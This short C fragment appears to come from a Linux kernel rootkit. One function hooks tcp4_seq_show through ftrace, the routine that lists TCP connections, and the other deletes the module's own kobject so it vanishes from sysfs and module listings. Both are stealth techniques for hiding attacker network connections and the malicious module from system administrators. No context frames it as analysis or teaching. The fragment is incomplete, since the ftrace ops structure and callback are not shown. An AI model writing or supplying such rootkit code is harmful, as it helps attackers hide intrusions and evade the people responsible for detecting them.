static int install(void) { return ftrace_set_filter_ip(&ops, kallsyms_lookup_name("tcp4_seq_show"), 0, 0); }
static void hideModule(void) { kobject_del(&THIS_MODULE->mkobj.kobj); }
